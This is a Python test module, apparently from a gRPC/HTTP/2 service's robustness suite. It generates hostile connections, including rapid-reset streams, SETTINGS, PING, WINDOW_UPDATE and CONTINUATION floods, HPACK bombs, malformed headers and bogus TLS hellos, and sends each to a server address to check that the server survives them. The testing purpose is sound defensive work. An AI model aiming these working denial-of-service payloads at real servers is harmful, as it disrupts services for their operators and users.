"""Connections of attackers, byte by byte: HTTP/2 out of order, floods, and TLS that is none.

Each case is one connection. The server may answer as it likes; it must close what it cannot read,
and go on serving others. Frames: RFC 9113; header blocks: RFC 7541.
"""

from __future__ import annotations

import contextlib
import random
import socket
import struct
from collections.abc import Callable, Mapping

from aerobee_chassis.healthcheck import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
    request,
)

PRIORITY, PUSH_PROMISE, WINDOW_UPDATE, CONTINUATION = 2, 5, 8, 9
CONNECT_S = 30.0
SEND_S = 2.0  # a server that stops reading from an attacker is right to do so
READ_S = 0.02

Bytes = Callable[[random.Random, str], bytes]


def frames_out_of_order(chance: random.Random, path: str) -> bytes:
    """Random frames of all types, most with a plausible length."""
    kinds = [*range(10), 0xBE]
    sent = [request(path)] if chance.random() < 0.6 else [PREFACE]
    for _ in range(chance.randrange(1, 30)):
        kind, stream = chance.choice(kinds), chance.choice((0, 1, 2, 3, 5, 2**31 - 1))
        size = chance.choice((0, 1, 4, 5, 6, 8, 9, 60))
        sent.append(frame(kind, chance.randrange(256), stream, chance.randbytes(size)))
    return b"".join(sent)


def torn(chance: random.Random, path: str) -> bytes:
    """A valid call that ends, or continues with noise, at any byte."""
    data = request(path) + frame(DATA, END_STREAM, 1, struct.pack(">BI", 0, 3) + b"\x0a\x01a")
    at = chance.randrange(len(data))
    return data[:at] + (chance.randbytes(40) if chance.random() < 0.5 else b"")


def wrong_messages(chance: random.Random, path: str) -> bytes:
    """Messages whose length or flag of compression is wrong."""
    size = chance.choice((0, 1, 2**31, 2**32 - 1, 70_000_000))
    head = struct.pack(">BI", chance.choice((0, 1, 2, 255)), size)
    return request(path) + frame(DATA, chance.choice((0, END_STREAM)), 1, head + b"\x0a\x01a")


def rapid_reset(chance: random.Random, path: str) -> bytes:
    """Calls that are cancelled as soon as they begin (CVE-2023-44487)."""
    return reset_calls(path, 1 + chance.choice((5, 50, 300)))


def reset_calls(path: str, count: int) -> bytes:
    first = request(path)
    headers = first[len(PREFACE) + 9 :]  # after the empty settings
    block = headers[9:]
    sent = [first, frame(RST_STREAM, 0, 1, b"\0\0\0\x08")]
    for stream in range(3, 1 + 2 * count, 2):
        sent.append(frame(HEADERS, END_HEADERS, stream, block))
        sent.append(frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
    return b"".join(sent)


def settings_flood(chance: random.Random, _path: str) -> bytes:
    one = struct.pack(">HI", chance.choice((1, 3, 4, 5, 6, 99)), chance.choice((0, 1, 2**31)))
    return PREFACE + frame(SETTINGS, 0, 0, one * 5) * chance.choice((10, 300))


def ping_flood(chance: random.Random, _path: str) -> bytes:
    return (
        PREFACE
        + frame(SETTINGS, 0, 0, b"")
        + frame(PING, 0, 0, bytes(8)) * chance.choice((10, 500))
    )


def window_flood(chance: random.Random, path: str) -> bytes:
    step = struct.pack(">I", chance.choice((0, 1, 2**31 - 1)))
    return request(path) + frame(WINDOW_UPDATE, 0, chance.choice((0, 1)), step) * 50


def continuation_flood(chance: random.Random, _path: str) -> bytes:
    """Headers that do not end (CVE-2024-27316)."""
    part = b"\0\x01a\x7f\x80\x01" + b"b" * 255
    begun = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, 0, 1, part)
    return begun + frame(CONTINUATION, 0, 1, part) * chance.choice((10, 400))


def hpack_bomb(chance: random.Random, _path: str) -> bytes:
    """A header in the dynamic table, and many references to it; or indexes that do not exist."""
    entry = b"\x40\x01a\x7f\x81\x1e" + b"b" * 4_000
    body = chance.choice((b"\xbe" * 4_000, b"\xff\xff\xff\xff\x0f", b"\x3f\xe1\xff\xff\xff\x07"))
    block = (entry + body)[:16_000]
    head = PREFACE + frame(SETTINGS, 0, 0, b"")
    return head + frame(HEADERS, END_HEADERS | END_STREAM, 1, block)


def headers_of_calls(chance: random.Random, path: str) -> bytes:
    """A call whose path, method, timeout or metadata is not one."""
    bad = chance.choice(
        ("/", "", path + "x", path * 3, "/a/b/c", "*", "/\u00e9".encode().decode("latin-1"), path)
    )
    fields = {
        ":method": chance.choice(("POST", "GET", "PUT", "")),
        ":scheme": "http",
        ":path": bad,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": chance.choice(("application/grpc", "text/plain", "")),
        "grpc-timeout": chance.choice(("1m", "99999999H", "-1S", "x", "")),
        "grpc-encoding": chance.choice(("identity", "gzip", "none")),
        chance.choice(("x-mq-client-id", "authorization", "traceparent", "a-bin")): chance.choice(
            ("\x00", "a" * 120, "=,=", "00-0-0-0", "%%%")
        ),
    }
    if chance.random() < 0.3:
        del fields[chance.choice(sorted(fields))]
    block = b"".join(
        b"\0" + _text(name.encode("latin-1")) + _text(value.encode("latin-1"))
        for name, value in fields.items()
    )
    head = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, block)
    return head + frame(DATA, END_STREAM, 1, bytes(5))


def tls_hello(chance: random.Random, path: str) -> bytes:
    """A hello of TLS: cut off, of an old version, or followed by plaintext."""
    version = chance.choice((b"\x03\x00", b"\x03\x01", b"\x03\x03", b"\x7f\xff"))
    suites = b"".join(chance.choice((b"\x13\x01", b"\xc0\x2f", b"\0\x05")) for _ in range(4))
    name = b"\0\0\0\x0e\0\x0c\0\0\x09localhost"
    body = version + chance.randbytes(32) + b"\0" + struct.pack(">H", len(suites)) + suites
    body += b"\x01\0" + struct.pack(">H", len(name)) + name
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    record = b"\x16\x03\x01" + struct.pack(">H", len(message)) + message
    match chance.randrange(5):
        case 0:
            return record[: chance.randrange(1, len(record))]
        case 1:
            return record + request(path)
        case 2:
            return record[:5] + chance.randbytes(len(record) - 5)
        case 3:
            return request(path) + record
    return record + b"\x15\x03\x03\0\x02\x02\x28"


def goaway(chance: random.Random, path: str) -> bytes:
    begun = request(path)
    return begun + frame(GOAWAY, 0, 0, chance.randbytes(chance.choice((0, 7, 8, 60)))) + begun


def noise(chance: random.Random, _path: str) -> bytes:
    text = chance.choice((b"", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", PREFACE[:10], b"\0" * 9))
    return text + chance.randbytes(chance.randrange(1, 400))


def acks(chance: random.Random, path: str) -> bytes:
    """Acknowledgements of settings and pings that were never sent."""
    return request(path) + frame(SETTINGS, ACK, 0, b"") * 20 + frame(PING, ACK, 0, bytes(8)) * 20


KINDS: Mapping[str, Bytes] = {
    "frames out of order": frames_out_of_order,
    "torn calls": torn,
    "wrong messages": wrong_messages,
    "rapid reset": rapid_reset,
    "settings flood": settings_flood,
    "ping flood": ping_flood,
    "window flood": window_flood,
    "continuation flood": continuation_flood,
    "HPACK bomb": hpack_bomb,
    "headers of calls": headers_of_calls,
    "TLS hello": tls_hello,
    "GOAWAY": goaway,
    "noise": noise,
    "acknowledgements": acks,
}


def attack(address: str, data: bytes) -> str:
    """Send bytes over a new connection, look at the answer, and leave. Return what the server did.

    Raises OSError if it does not accept the connection.
    """
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), CONNECT_S) as connection:
        # No FIN with unread bytes: the kernel sends RST, as an attacker would.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.settimeout(SEND_S)
        try:
            connection.sendall(data)
            connection.settimeout(READ_S)
            received = 0
            with contextlib.suppress(TimeoutError):
                while part := connection.recv(65_536):
                    received += len(part)
                return "closed"
        except TimeoutError:
            return "not read"
        except OSError:
            return "closed"
    return "answered" if received else "silent"


def _text(data: bytes) -> bytes:
    return (
        bytes([len(data)]) + data if len(data) < 127 else b"\x7f" + _varint(len(data) - 127) + data
    )


def _varint(number: int) -> bytes:
    encoded = bytearray()
    while number > 0x7F:
        encoded.append(number & 0x7F | 0x80)
        number >>= 7
    encoded.append(number)
    return bytes(encoded)
